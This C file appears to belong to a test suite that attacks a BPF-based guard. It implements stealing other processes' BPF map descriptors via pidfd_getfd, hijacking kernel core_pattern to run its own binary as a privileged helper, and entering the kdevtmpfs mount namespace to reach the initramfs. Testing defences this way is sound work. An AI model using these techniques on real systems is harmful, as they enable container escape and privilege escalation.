// SPDX-License-Identifier: Apache-2.0
/* What other tasks than the attacker's have or see: their file descriptors, and the namespaces and roots of the kernel's. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define CORE_PATTERN "/proc/sys/kernel/core_pattern"
#define ANSWER "/tmp/helper-answer"

enum { PATH_SIZE = 256, FDS_MAX = 256, NR_PIDFD_OPEN = 434, NR_PIDFD_GETFD = 438, WAIT_TURNS = 50 };

/* Takes the map, if it is one of the guard's; without a guard any will do. */
static int take(const struct scene *scene, long pid, long fd)
{
	int process = (int)syscall(NR_PIDFD_OPEN, pid, 0L);
	int taken = (int)syscall(NR_PIDFD_GETFD, process, fd, 0L);
	int error = taken >= 0 && (!scene->guarded || is_guard_map(taken)) ? 0 : -ENOENT;

	close(process);
	close(taken);
	return error;
}

static int take_from(const struct scene *scene, long pid)
{
	char path[64], target[64];
	int error = -ENOENT;

	for (long fd = 0; fd < FDS_MAX && error < 0; fd++) {
		ssize_t size;

		snprintf(path, sizeof(path), "/proc/%ld/fd/%ld", pid, fd);
		size = readlink(path, target, sizeof(target) - 1);
		target[size < 0 ? 0 : size] = '\0';
		if (strcmp(target, "anon_inode:bpf-map") == 0)
			error = take(scene, pid, fd);
	}
	return error;
}

static int take_map_of_any_process(const struct scene *scene)
{
	struct map_create_args some = {.map_type = MAP_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
	DIR *processes = opendir("/proc");
	struct dirent *entry;
	int error = -ENOENT, map = -1;

	if (!scene->guarded)
		map = system_bpf(CMD_MAP_CREATE, &some, MAP_CREATE_SIZE_BEFORE_6_18);
	while (processes != NULL && error < 0 && (entry = readdir(processes)) != NULL) {
		if (atol(entry->d_name) > 0)
			error = take_from(scene, atol(entry->d_name));
	}
	close(map);
	return error;
}

static long task_called(const char *name)
{
	char path[PATH_SIZE], comm[32];
	DIR *processes = opendir("/proc");
	struct dirent *entry;
	long found = 0;

	while (processes != NULL && found == 0 && (entry = readdir(processes)) != NULL) {
		snprintf(path, sizeof(path), "/proc/%.20s/comm", entry->d_name);
		memset(comm, 0, sizeof(comm));
		if (atol(entry->d_name) > 0 && read_file(path, comm, sizeof(comm) - 1) > 0 &&
		    strncmp(comm, name, strlen(name)) == 0)
			found = atol(entry->d_name);
	}
	return found;
}

/* The thread that makes device nodes has a namespace from before the first process; below its root lies the initramfs. */
static int uncover_devices(const struct scene *scene)
{
	const char *folder = scene->guarded ? "/bpfseal" : "/folder";
	char path[PATH_SIZE];
	int ns, error;

	snprintf(path, sizeof(path), "/proc/%ld/ns/mnt", task_called("kdevtmpfs"));
	ns = open(path, O_RDONLY | O_CLOEXEC);
	error = result_of(syscall(SYS_setns, ns, 0L));
	if (error == 0)
		error = result_of(umount2("/", MNT_DETACH));
	if (error == 0)
		error = result_of(syscall(SYS_setns, ns, 0L));
	if (!scene->guarded)
		mkdir(folder, 0700);
	return error < 0 ? error : result_of(rmdir(folder));
}

/* The kernel starts what core_pattern names in a task of its own. It writes what it sees. */
void helper(const char *seen)
{
	char answer[16];
	int fd = open(ANSWER, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);

	snprintf(answer, sizeof(answer), "%d", access(seen, F_OK) < 0 ? errno : 0);
	if (write(fd, answer, strlen(answer)) < 0)
		perror(ANSWER);
	close(fd);
}

static void dump_core(void)
{
	struct rlimit limit = {RLIM_INFINITY, RLIM_INFINITY};
	pid_t child = fork();

	if (child == 0) {
		setrlimit(RLIMIT_CORE, &limit);
		signal(SIGSEGV, SIG_DFL);
		raise(SIGSEGV);
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

static int reach_through_core_helper(const struct scene *scene)
{
	char before[PATH_SIZE] = {0}, pattern[PATH_SIZE], self[PATH_SIZE] = {0}, answer[16] = {0};
	int error;

	unlink(ANSWER);
	if (readlink("/proc/self/exe", self, sizeof(self) - 1) < 0)
		return -errno;
	read_file(CORE_PATTERN, before, sizeof(before) - 1);
	snprintf(pattern, sizeof(pattern), "|%.80s helper %s", self, scene->guarded ? "/bpfseal" : "/");
	error = write_file(CORE_PATTERN, pattern, strlen(pattern));
	if (error == 0)
		dump_core();
	for (int i = 0; error == 0 && i < WAIT_TURNS && read_file(ANSWER, answer, sizeof(answer) - 1) == 0; i++)
		usleep(20000);
	write_file(CORE_PATTERN, before, strlen(before));
	return error < 0 || answer[0] == '\0' ? -ESRCH : -atoi(answer);
}

const struct attack task_attacks[] = {
	{.name = "take-map-of-any-process", .run = take_map_of_any_process, .aim = AIM_ACT},
	{.name = "reach-through-core-helper", .run = reach_through_core_helper, .aim = AIM_ACT},
	{.name = "uncover-namespace-of-devices-and-rmdir", .run = uncover_devices, .aim = AIM_ACT, .end_major = 7},
	{.name = NULL},
};
